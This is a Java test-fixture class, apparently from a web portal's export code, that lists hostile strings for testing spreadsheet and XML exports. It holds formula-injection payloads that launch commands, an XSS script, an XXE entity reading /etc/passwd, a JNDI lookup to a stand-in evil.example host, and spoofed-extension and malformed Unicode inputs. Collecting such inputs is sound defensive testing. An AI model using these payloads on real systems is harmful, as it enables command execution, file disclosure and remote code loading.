package cl.buzon.web.export;

import java.util.function.IntFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Texts that have hurt other portals. */
final class Payloads {

    private Payloads() {}

    static Stream<String> all() {
        return Stream.of(
                "=cmd|' /C calc'!A1",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "-2+3",
                "\t=1+1",
                "\r=1+1",
                " \u00A0\u200B=HYPERLINK(\"http://evil.example\")",
                "\uFF1D1+1",
                "\"; =1+1; \"\r\n=2+2;",
                "<script>alert(1)</script>",
                "<img src=file:///etc/passwd>",
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
                "]]></t></is></c><c><f>1+1</f></c>",
                "{{7*7}} ${7*7} #{7*7} ${jndi:ldap://evil.example/a}",
                "\u202Egnp.exe \u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627",
                "caja \uD83D\uDCE6 \uD83D\uDC69\u200D\uD83D\uDE80 \u7BB1",
                "nulo\0aqu\u00ED",
                "\0=1+1",
                "roto \uD83D solo \uDCE6 \uFFFE",
                "n\u0303andu\u0301 e\u0301\u0301\u0301",
                "x".repeat(4000),
                longer(i -> "palabra " + i * i + " "),
                longer(i -> Character.toString(0x1F300 + i % 500)));
    }

    /** More than the cell of a spreadsheet holds. */
    private static String longer(IntFunction<String> word) {
        return IntStream.range(0, 17_000).mapToObj(word).collect(Collectors.joining());
    }
}
